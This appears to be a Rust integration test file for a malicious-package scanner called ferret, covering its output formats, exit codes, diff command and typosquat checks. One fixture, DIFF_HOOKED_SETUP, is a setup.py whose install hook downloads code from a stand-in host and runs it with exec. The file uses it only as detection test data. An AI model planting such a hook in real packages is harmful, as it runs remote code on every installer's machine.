//! The command line: input formats, output formats, exit codes (issue #2).

use crate::support::{bzip2, ferret, gzip, repo, tar, tmpdir, tree, under, zip, TempDir};
use serde_json::Value;

/// Writes one malicious fixture as every input format ferret accepts, in a directory of the
/// calling test's own (tests run in parallel); returns the directory and the paths.
fn all_formats(test: &str) -> (TempDir, Vec<std::path::PathBuf>) {
    let src = repo().join("corpus/imitations/init-import-payload");
    let files: Vec<_> = tree(&src)
        .into_iter()
        .filter(|(p, _)| p != "expected.toml")
        .collect();
    let dir = tmpdir(&format!("formats-{test}"));
    let sdist = under("envdump-lib-1.0", &files);
    let mut wheel: Vec<_> = files
        .iter()
        .filter(|(p, _)| p.starts_with("envdump_lib/"))
        .cloned()
        .collect();
    wheel.push((
        "envdump_lib-1.0.dist-info/METADATA".into(),
        b"Metadata-Version: 2.1\nName: envdump-lib\nVersion: 1.0\n".to_vec(),
    ));
    let outputs = [
        ("envdump_lib-1.0-py3-none-any.whl", zip(&wheel)),
        ("envdump-lib-1.0.tar.gz", gzip(&tar(&sdist))),
        ("envdump-lib-1.0.zip", zip(&sdist)),
        ("envdump-lib-1.0.tar.bz2", bzip2(&tar(&sdist))),
        ("envdump_lib-1.0-py3.11.egg", zip(&wheel)),
    ];
    let mut paths = Vec::new();
    for (name, bytes) in outputs {
        let p = dir.join(name);
        std::fs::write(&p, bytes).unwrap();
        paths.push(p);
    }
    let tree_dir = dir.join("unpacked");
    for (p, d) in &files {
        let target = tree_dir.join(p);
        std::fs::create_dir_all(target.parent().unwrap()).unwrap();
        std::fs::write(target, d).unwrap();
    }
    paths.push(tree_dir);
    let lone = dir.join("payload.py");
    std::fs::copy(src.join("envdump_lib/__init__.py"), &lone).unwrap();
    paths.push(lone);
    (dir, paths)
}

#[test]
fn every_input_format_gets_a_verdict() {
    let (_dir, paths) = all_formats("verdict");
    let args: Vec<String> = ["scan", "--format", "json"]
        .iter()
        .map(|s| s.to_string())
        .chain(paths.iter().map(|p| p.display().to_string()))
        .collect();
    let out = ferret(&args.iter().map(String::as_str).collect::<Vec<_>>());
    assert_eq!(
        out.status.code(),
        Some(1),
        "stderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc: Value = serde_json::from_slice(&out.stdout).expect("stdout is one JSON document");
    let packages = doc["packages"].as_array().unwrap();
    assert_eq!(packages.len(), paths.len());
    let formats: Vec<&str> = packages
        .iter()
        .map(|p| p["format"].as_str().unwrap())
        .collect();
    assert_eq!(
        formats,
        [
            "zip",
            "tar.gz",
            "zip",
            "tar.bz2",
            "zip",
            "directory",
            "file"
        ]
    );
    for p in packages {
        for key in [
            "path", "sha256", "name", "version", "verdict", "score", "findings", "errors",
        ] {
            assert!(p.get(key).is_some(), "{key} missing in {p}");
        }
        assert_eq!(p["verdict"], "malicious", "{}", p["path"]);
        let f = &p["findings"].as_array().unwrap()[0];
        for key in [
            "rule", "severity", "file", "line", "column", "message", "context",
        ] {
            assert!(f.get(key).is_some(), "{key} missing in finding {f}");
        }
        assert!(p["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule"] == "sensitive-data-sent"));
    }
    assert_eq!(packages[1]["name"], "envdump-lib");
    assert_eq!(packages[1]["version"], "0.1.0");
    assert_eq!(doc["summary"]["malicious"], paths.len());
}

#[test]
fn jsonl_streams_one_package_per_line() {
    let (_dir, paths) = all_formats("jsonl");
    let out = ferret(&[
        "scan",
        "--format",
        "jsonl",
        paths[0].to_str().unwrap(),
        paths[1].to_str().unwrap(),
    ]);
    let text = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2);
    for l in lines {
        let v: Value = serde_json::from_str(l).unwrap();
        assert_eq!(v["verdict"], "malicious");
    }
}

#[test]
fn sarif_has_rules_and_located_results() {
    let (_dir, paths) = all_formats("sarif");
    let out = ferret(&["scan", "--format", "sarif", paths[1].to_str().unwrap()]);
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["version"], "2.1.0");
    let run = &doc["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    assert!(rules.len() >= 20);
    let results = run["results"].as_array().unwrap();
    assert!(!results.is_empty());
    for r in results {
        let idx = r["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(rules[idx]["id"], r["ruleId"]);
        let region = &r["locations"][0]["physicalLocation"]["region"];
        assert!(region["startLine"].as_u64().unwrap() >= 1);
        assert!(["error", "warning", "note"].contains(&r["level"].as_str().unwrap()));
    }
}

#[test]
fn exit_codes() {
    let clean = repo().join("corpus/benign/version-exec");
    let out = ferret(&["scan", clean.to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let bad = repo().join("corpus/samples/hello-pkg");
    assert_eq!(
        ferret(&["scan", bad.to_str().unwrap()]).status.code(),
        Some(1)
    );
    assert_eq!(
        ferret(&["scan", "--fail-on", "never", bad.to_str().unwrap()])
            .status
            .code(),
        Some(0)
    );
    assert_eq!(
        ferret(&["scan", "--fail-on", "malicious", bad.to_str().unwrap()])
            .status
            .code(),
        Some(1)
    );
    let missing = ferret(&["scan", "/nonexistent/x.whl"]);
    assert_eq!(missing.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&missing.stderr).contains("no such file"));
    assert_eq!(
        ferret(&["scan", "--format", "yaml", bad.to_str().unwrap()])
            .status
            .code(),
        Some(2)
    );
}

#[test]
fn unreadable_archive_is_unscannable_and_errors_go_to_stderr() {
    let dir = tmpdir("corrupt");
    let p = dir.join("broken-1.0.tar.gz");
    let mut bytes = gzip(&tar(&[(
        "broken-1.0/setup.py".into(),
        b"print(1)\n".to_vec(),
    )]));
    bytes.truncate(12);
    std::fs::write(&p, bytes).unwrap();
    let out = ferret(&["scan", "--format", "json", p.to_str().unwrap()]);
    let doc: Value = serde_json::from_slice(&out.stdout).expect("stdout stays pure JSON");
    assert_eq!(doc["packages"][0]["verdict"], "unscannable");
    assert!(!String::from_utf8_lossy(&out.stderr).is_empty());
}

#[test]
fn human_output_shows_location_snippet_and_marker() {
    let bad = repo().join("corpus/samples/hello-pkg");
    let out = ferret(&["scan", "--color", "never", bad.to_str().unwrap()]);
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("setup.py:"), "{text}");
    assert!(text.contains(" | "), "{text}");
    assert!(text.contains('^'), "{text}");
    assert!(text.contains("malicious"), "{text}");
}

#[test]
fn readme_commands_stay_true() {
    let readme = std::fs::read_to_string(repo().join("README.md")).unwrap();
    let first_screen: String = readme.lines().take(40).collect::<Vec<_>>().join("\n");
    assert!(
        first_screen.contains("cargo run --release -- scan corpus/samples/hello-pkg"),
        "README quick start changed"
    );
    assert!(
        first_screen.contains("bash .ci/run"),
        "README test command changed"
    );
    let ci = std::fs::read_to_string(repo().join(".ci/run")).unwrap();
    assert!(ci.contains("cargo test"), ".ci/run must run the tests");
}

// ---- ferret diff (issue #5: replicated project, hidden additions) ----

const DIFF_PKG_INFO: &[u8] =
    b"Metadata-Version: 2.1\nName: tidy-widgets\nVersion: 1.2.0\nSummary: Widgets\nAuthor: Jane Doe\n\nLong.\n";
const DIFF_SETUP: &[u8] =
    b"from setuptools import setup\nsetup(name='tidy-widgets', version='1.2.0', packages=['tidy_widgets'])\n";
const DIFF_MODULE: &[u8] =
    b"import subprocess\n\ndef build():\n    return subprocess.run(['make'])\n";
const DIFF_HOOKED_SETUP: &[u8] = b"from setuptools import setup
from setuptools.command.install import install
import urllib.request

class PostInstall(install):
    def run(self):
        exec(urllib.request.urlopen('http://example.invalid/stage2').read())
        install.run(self)

setup(name='tidy-widgets', version='1.2.0', packages=['tidy_widgets'], cmdclass={'install': PostInstall})
";

fn diff_sdist(setup: &[u8]) -> Vec<u8> {
    let files = [
        ("PKG-INFO", DIFF_PKG_INFO),
        ("setup.py", setup),
        ("README.md", b"# tidy widgets\n".as_slice()),
        ("tidy_widgets/__init__.py", DIFF_MODULE),
    ];
    let files: Vec<(String, Vec<u8>)> = files
        .iter()
        .map(|(p, d)| (format!("tidy-widgets-1.2.0/{p}"), d.to_vec()))
        .collect();
    gzip(&tar(&files))
}

#[test]
fn diff_reports_exactly_an_added_install_hook() {
    let dir = tmpdir("diff-hook");
    let old = dir.join("old/tidy-widgets-1.2.0.tar.gz");
    let new = dir.join("new/tidy-widgets-1.2.0.tar.gz");
    for (p, setup) in [(&old, DIFF_SETUP), (&new, DIFF_HOOKED_SETUP)] {
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, diff_sdist(setup)).unwrap();
    }
    let out = ferret(&[
        "diff",
        "--format",
        "json",
        old.to_str().unwrap(),
        new.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(1), "a new threat exits 1");
    let d: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(d["added_files"], serde_json::json!([]));
    assert_eq!(d["removed_files"], serde_json::json!([]));
    assert_eq!(d["changed_files"], serde_json::json!(["setup.py"]));
    let hooks = d["install_hooks"].as_array().unwrap();
    assert_eq!(hooks.len(), 1, "{hooks:?}");
    assert_eq!(hooks[0]["file"], "setup.py");
    assert!(hooks[0]["description"]
        .as_str()
        .unwrap()
        .contains("cmdclass"));
    let findings = d["new_findings"].as_array().unwrap();
    let rules: std::collections::BTreeSet<&str> = findings
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    for want in [
        "cmdclass-override",
        "install-time-network",
        "remote-code-load",
    ] {
        assert!(rules.contains(want), "{want} missing from {rules:?}");
    }
    // Only the hook: every new finding is in setup.py, none in the unchanged module
    // (whose subprocess call the old package already had).
    for f in findings {
        assert_eq!(f["file"], "tidy-widgets-1.2.0/setup.py", "{f}");
    }
    assert_eq!(d["old"]["verdict"], "clean");
    assert_eq!(d["new"]["verdict"], "malicious");

    // The same package against itself adds nothing and exits 0.
    let out = ferret(&["diff", old.to_str().unwrap(), old.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("no new findings"), "{text}");
    assert!(!text.contains("changed files"), "{text}");
}

#[test]
fn diff_lines_up_a_wheel_with_its_sdist() {
    let dir = tmpdir("diff-wheel");
    let sdist = dir.join("tidy-widgets-1.2.0.tar.gz");
    std::fs::write(&sdist, diff_sdist(DIFF_SETUP)).unwrap();
    let wheel = dir.join("tidy_widgets-1.2.0-py3-none-any.whl");
    std::fs::write(
        &wheel,
        zip(&[
            ("tidy_widgets/__init__.py".into(), DIFF_MODULE.to_vec()),
            (
                "tidy_widgets-1.2.0.dist-info/METADATA".into(),
                DIFF_PKG_INFO.to_vec(),
            ),
        ]),
    )
    .unwrap();
    let out = ferret(&[
        "diff",
        "--format",
        "json",
        sdist.to_str().unwrap(),
        wheel.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(0));
    let d: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(d["added_files"], serde_json::json!([]));
    assert_eq!(d["changed_files"], serde_json::json!([]));
    assert_eq!(d["new_findings"], serde_json::json!([]));
    assert_eq!(d["install_hooks"], serde_json::json!([]));
}

#[test]
fn popular_list_protects_the_users_own_names() {
    let dir = tmpdir("popular-list");
    let list = dir.join("internal.txt");
    std::fs::write(&list, "# our packages\nacme-billing-core\nacme-auth\n").unwrap();
    let sdist = |name: &str| {
        let p = dir.join(format!("{name}-1.0.tar.gz"));
        let pkg_info = format!(
            "Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\nSummary: x y\nAuthor: Jane Doe\n"
        );
        std::fs::write(
            &p,
            gzip(&tar(&[(
                format!("{name}-1.0/PKG-INFO"),
                pkg_info.into_bytes(),
            )])),
        )
        .unwrap();
        p
    };
    let squat = sdist("acme-bi1ling-core");
    let ours = sdist("acme-billing-core");
    let scan = |p: &std::path::Path, with_list: bool| {
        let mut args = vec!["scan", "--format", "json", p.to_str().unwrap()];
        if with_list {
            args.extend(["--popular-list", list.to_str().unwrap()]);
        }
        let out = ferret(&args);
        let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
        doc["packages"][0]["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["message"].as_str().unwrap().to_string())
            .collect::<Vec<_>>()
    };
    let with = scan(&squat, true);
    assert!(
        with.iter()
            .any(|m| m.contains("`acme-billing-core`") && m.contains("your --popular-list")),
        "{with:?}"
    );
    assert_eq!(scan(&squat, false), Vec::<String>::new());
    assert_eq!(scan(&ours, true), Vec::<String>::new());
    // An empty list is an error that says what to do.
    let empty = dir.join("empty.txt");
    std::fs::write(&empty, "\n").unwrap();
    let out = ferret(&[
        "scan",
        ours.to_str().unwrap(),
        "--popular-list",
        empty.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("one name per line"));
}

#[test]
fn jsonl_keeps_input_order_beyond_the_reorder_window() {
    // More inputs than the reorder window (32 per thread), in an order unlike the sorted one,
    // so that results finishing out of order must be held back and released in order.
    let mut dirs: Vec<String> = ["corpus/imitations", "corpus/benign"]
        .iter()
        .flat_map(|d| std::fs::read_dir(repo().join(d)).unwrap().flatten())
        .filter(|e| e.path().is_dir())
        .map(|e| e.path().to_string_lossy().into_owned())
        .collect();
    dirs.sort();
    dirs.reverse();
    let inputs: Vec<&str> = dirs
        .iter()
        .chain(&dirs)
        .chain(&dirs)
        .map(String::as_str)
        .collect();
    assert!(inputs.len() > 64 + 2, "{} inputs", inputs.len());
    let mut args = vec![
        "scan",
        "--format",
        "jsonl",
        "--fail-on",
        "never",
        "--jobs",
        "2",
    ];
    args.extend(&inputs);
    let out = ferret(&args);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let printed: Vec<String> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["path"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    assert_eq!(printed, inputs);
}
